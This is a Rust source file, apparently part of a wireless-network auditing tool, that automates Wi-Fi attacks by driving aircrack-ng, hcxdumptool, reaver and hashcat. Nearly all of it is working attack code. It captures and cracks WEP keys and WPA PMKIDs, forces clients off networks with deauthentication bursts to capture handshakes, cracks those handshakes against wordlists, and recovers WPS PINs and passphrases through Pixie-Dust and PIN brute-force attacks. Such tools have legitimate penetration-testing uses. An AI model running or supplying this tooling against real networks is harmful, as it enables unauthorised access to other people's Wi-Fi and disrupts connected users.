/*!
 * External attack tooling
 *
 * The real `AttackTools` implementation. Each attack phase shells out to
 * the usual suspects (airodump-ng, aireplay-ng, aircrack-ng, hcxdumptool,
 * hcxpcapngtool, reaver, hashcat) with bounded waits and cooperative
 * interrupt checks, and parses their output for results.
 */

use colored::Colorize;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::config::AttackConfig;
use crate::core::attack::{AttackTools, CaptureArtifact, WpsCredentials};
use crate::core::deps::ToolCapabilities;
use crate::core::engine::{parse_outfile_password, HashType};
use crate::core::error::StrategyError;
use crate::core::target::Target;
use crate::core::wordlist::load_wordlist_queue;

const WEP_CAPTURE_TIMEOUT: Duration = Duration::from_secs(600);
const PMKID_CAPTURE_TIMEOUT: Duration = Duration::from_secs(90);
const HANDSHAKE_CAPTURE_TIMEOUT: Duration = Duration::from_secs(300);
const WPS_PIXIE_TIMEOUT: Duration = Duration::from_secs(300);
const WPS_PIN_TIMEOUT: Duration = Duration::from_secs(3600);

pub struct SystemTools {
    config: AttackConfig,
    capabilities: ToolCapabilities,
    interrupt: Arc<AtomicBool>,
}

impl SystemTools {
    pub fn new(
        config: &AttackConfig,
        capabilities: &ToolCapabilities,
        interrupt: Arc<AtomicBool>,
    ) -> Self {
        Self {
            config: config.clone(),
            capabilities: capabilities.clone(),
            interrupt,
        }
    }

    fn interrupted(&self) -> bool {
        self.interrupt.load(Ordering::Relaxed)
    }

    fn scratch_prefix(&self, target: &Target, tag: &str) -> PathBuf {
        let safe = target.bssid.replace(':', "").to_lowercase();
        self.config.temp_path(&format!("{}-{}", tag, safe))
    }

    /// Wait for a child with a deadline, killing it on timeout or user
    /// interrupt. Returns the captured stdout when the child exits on its
    /// own.
    fn wait_bounded(&self, mut child: Child, timeout: Duration) -> Result<String, StrategyError> {
        let deadline = Instant::now() + timeout;
        loop {
            if self.interrupted() {
                let _ = child.kill();
                let _ = child.wait();
                return Err(StrategyError::Interrupted);
            }
            match child.try_wait() {
                Ok(Some(_)) => break,
                Ok(None) => {
                    if Instant::now() >= deadline {
                        let _ = child.kill();
                        let _ = child.wait();
                        break;
                    }
                    std::thread::sleep(Duration::from_millis(200));
                }
                Err(e) => {
                    return Err(StrategyError::Execution(format!(
                        "waiting on child process: {}",
                        e
                    )))
                }
            }
        }
        let mut stdout = String::new();
        if let Some(mut pipe) = child.stdout.take() {
            use std::io::Read;
            let _ = pipe.read_to_string(&mut stdout);
        }
        Ok(stdout)
    }

    fn spawn(&self, mut cmd: Command, tool: &str) -> Result<Child, StrategyError> {
        cmd.stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .map_err(|e| StrategyError::Execution(format!("failed to start {}: {}", tool, e)))
    }

    fn ensure_scratch(&self) -> Result<(), StrategyError> {
        std::fs::create_dir_all(&self.config.temp_dir)
            .map_err(|e| StrategyError::Execution(format!("cannot create scratch dir: {}", e)))
    }
}

/// Extract the key from aircrack-ng's "KEY FOUND! [ XX:XX:... ]" line.
pub fn parse_aircrack_key(output: &str) -> Option<String> {
    let line = output.lines().find(|l| l.contains("KEY FOUND!"))?;
    let start = line.find('[')? + 1;
    let end = line.find(']')?;
    let key = line.get(start..end)?.trim();
    if key.is_empty() {
        None
    } else {
        Some(key.replace(':', ""))
    }
}

/// Extract WPS credentials from reaver output.
pub fn parse_reaver_output(output: &str) -> Option<WpsCredentials> {
    let mut pin = None;
    let mut psk = None;
    for line in output.lines() {
        if let Some(value) = line.split("WPS PIN:").nth(1) {
            pin = Some(value.trim().trim_matches('\'').to_string());
        }
        if let Some(value) = line.split("WPA PSK:").nth(1) {
            psk = Some(value.trim().trim_matches('\'').to_string());
        }
    }
    if pin.is_some() || psk.is_some() {
        Some(WpsCredentials { pin, psk })
    } else {
        None
    }
}

impl AttackTools for SystemTools {
    fn crack_wep(&self, target: &Target) -> Result<Option<String>, StrategyError> {
        if !self.capabilities.aircrack {
            return Err(StrategyError::MissingTool("aircrack-ng".to_string()));
        }
        self.ensure_scratch()?;

        let prefix = self.scratch_prefix(target, "wep");
        let mut capture = Command::new("airodump-ng");
        capture
            .arg("--bssid")
            .arg(&target.bssid)
            .arg("--channel")
            .arg(&target.channel)
            .arg("--write")
            .arg(&prefix)
            .arg("--output-format")
            .arg("cap,csv")
            .arg(&self.config.interface);
        let child = self.spawn(capture, "airodump-ng")?;
        self.wait_bounded(child, WEP_CAPTURE_TIMEOUT)?;

        let cap_file = PathBuf::from(format!("{}-01.cap", prefix.display()));
        if !cap_file.exists() {
            return Ok(None);
        }

        let mut crack = Command::new("aircrack-ng");
        crack
            .arg("-a")
            .arg("1")
            .arg("-b")
            .arg(&target.bssid)
            .arg(&cap_file);
        let child = self.spawn(crack, "aircrack-ng")?;
        let output = self.wait_bounded(child, Duration::from_secs(120))?;
        Ok(parse_aircrack_key(&output))
    }

    fn capture_pmkid(&self, target: &Target) -> Result<Option<CaptureArtifact>, StrategyError> {
        if !self.capabilities.pmkid {
            return Err(StrategyError::MissingTool("hcxdumptool".to_string()));
        }
        self.ensure_scratch()?;

        let prefix = self.scratch_prefix(target, "pmkid");
        let pcapng = PathBuf::from(format!("{}.pcapng", prefix.display()));
        let filter = PathBuf::from(format!("{}.filter", prefix.display()));
        std::fs::write(&filter, format!("{}\n", target.bssid.replace(':', "")))
            .map_err(|e| StrategyError::Execution(format!("cannot write filter list: {}", e)))?;

        let mut dump = Command::new("hcxdumptool");
        dump.arg("-i")
            .arg(&self.config.interface)
            .arg("-o")
            .arg(&pcapng)
            .arg("--filterlist_ap")
            .arg(&filter)
            .arg("--filtermode")
            .arg("2")
            .arg("--enable_status")
            .arg("1");
        let child = self.spawn(dump, "hcxdumptool")?;
        self.wait_bounded(child, PMKID_CAPTURE_TIMEOUT)?;
        let _ = std::fs::remove_file(&filter);

        if !pcapng.exists() {
            return Ok(None);
        }

        let hash_file = PathBuf::from(format!("{}.16800", prefix.display()));
        let mut convert = Command::new("hcxpcapngtool");
        convert.arg("--pmkid").arg(&hash_file).arg(&pcapng);
        let child = self.spawn(convert, "hcxpcapngtool")?;
        self.wait_bounded(child, Duration::from_secs(60))?;
        let _ = std::fs::remove_file(&pcapng);

        let captured = std::fs::metadata(&hash_file)
            .map(|m| m.len() > 0)
            .unwrap_or(false);
        if !captured {
            let _ = std::fs::remove_file(&hash_file);
            return Ok(None);
        }
        println!(
            "{} Captured PMKID for {}: {}",
            "[+]".green(),
            target.bssid.cyan(),
            hash_file.display()
        );
        Ok(Some(CaptureArtifact {
            hash_file,
            hash_type: HashType::Pmkid,
        }))
    }

    fn capture_handshake(
        &self,
        target: &Target,
    ) -> Result<Option<CaptureArtifact>, StrategyError> {
        if !self.capabilities.aircrack {
            return Err(StrategyError::MissingTool("airodump-ng".to_string()));
        }
        self.ensure_scratch()?;

        let prefix = self.scratch_prefix(target, "handshake");
        let mut capture = Command::new("airodump-ng");
        capture
            .arg("--bssid")
            .arg(&target.bssid)
            .arg("--channel")
            .arg(&target.channel)
            .arg("--write")
            .arg(&prefix)
            .arg("--output-format")
            .arg("cap")
            .arg(&self.config.interface);
        let capture_child = self.spawn(capture, "airodump-ng")?;

        // Deauth bursts knock clients off so they re-handshake
        let mut deauth = Command::new("aireplay-ng");
        deauth
            .arg("--deauth")
            .arg("10")
            .arg("-a")
            .arg(&target.bssid)
            .arg(&self.config.interface);
        if let Ok(child) = self.spawn(deauth, "aireplay-ng") {
            let _ = self.wait_bounded(child, Duration::from_secs(30));
        }

        self.wait_bounded(capture_child, HANDSHAKE_CAPTURE_TIMEOUT)?;

        let cap_file = PathBuf::from(format!("{}-01.cap", prefix.display()));
        if !cap_file.exists() {
            return Ok(None);
        }

        // Verify the capture actually contains a handshake
        let mut verify = Command::new("aircrack-ng");
        verify.arg(&cap_file);
        let child = self.spawn(verify, "aircrack-ng")?;
        let output = self.wait_bounded(child, Duration::from_secs(60))?;
        if !output.contains("1 handshake") {
            return Ok(None);
        }

        let hash_file = PathBuf::from(format!("{}.hccapx", prefix.display()));
        let mut convert = Command::new("cap2hccapx");
        convert.arg(&cap_file).arg(&hash_file);
        let child = self.spawn(convert, "cap2hccapx")?;
        self.wait_bounded(child, Duration::from_secs(60))?;

        if !hash_file.exists() {
            return Ok(None);
        }
        println!(
            "{} Captured handshake for {}: {}",
            "[+]".green(),
            target.bssid.cyan(),
            hash_file.display()
        );
        Ok(Some(CaptureArtifact {
            hash_file,
            hash_type: HashType::Hccapx,
        }))
    }

    fn crack_hash_blocking(
        &self,
        target: &Target,
        artifact: &CaptureArtifact,
    ) -> Result<Option<String>, StrategyError> {
        if !self.capabilities.hashcat {
            return Err(StrategyError::MissingTool("hashcat".to_string()));
        }
        let wordlist = match load_wordlist_queue(&self.config).pop_front() {
            Some(wl) => wl,
            None => {
                println!(
                    "{} No wordlist configured, keeping hash for later: {}",
                    "[!]".yellow(),
                    artifact.hash_file.display()
                );
                return Ok(None);
            }
        };

        let outfile = self.scratch_prefix(target, "crack").with_extension("out");
        let mut crack = Command::new(&self.config.hashcat_path);
        crack
            .arg("-m")
            .arg(artifact.hash_type.mode().to_string())
            .arg(&artifact.hash_file)
            .arg(&wordlist)
            .arg("--outfile")
            .arg(&outfile)
            .arg("--potfile-disable");
        if self.config.realtime_force_cpu {
            crack.arg("--force").arg("--opencl-device-types").arg("1");
        }
        let child = self.spawn(crack, "hashcat")?;
        // Foreground crack of one wordlist; the session owns the terminal
        self.wait_bounded(child, Duration::from_secs(24 * 3600))?;

        let password = parse_outfile_password(&outfile);
        let _ = std::fs::remove_file(&outfile);
        Ok(password)
    }

    fn run_wps_pixie(&self, target: &Target) -> Result<Option<WpsCredentials>, StrategyError> {
        if !self.capabilities.wps {
            return Err(StrategyError::MissingTool("reaver".to_string()));
        }
        let mut reaver = Command::new("reaver");
        reaver
            .arg("-i")
            .arg(&self.config.interface)
            .arg("-b")
            .arg(&target.bssid)
            .arg("-c")
            .arg(&target.channel)
            .arg("-K")
            .arg("1")
            .arg("-vv");
        let child = self.spawn(reaver, "reaver")?;
        let output = self.wait_bounded(child, WPS_PIXIE_TIMEOUT)?;
        Ok(parse_reaver_output(&output))
    }

    fn run_wps_pin(&self, target: &Target) -> Result<Option<WpsCredentials>, StrategyError> {
        if !self.capabilities.wps {
            return Err(StrategyError::MissingTool("reaver".to_string()));
        }
        let mut reaver = Command::new("reaver");
        reaver
            .arg("-i")
            .arg(&self.config.interface)
            .arg("-b")
            .arg(&target.bssid)
            .arg("-c")
            .arg(&target.channel)
            .arg("-vv");
        let child = self.spawn(reaver, "reaver")?;
        let output = self.wait_bounded(child, WPS_PIN_TIMEOUT)?;
        Ok(parse_reaver_output(&output))
    }
}
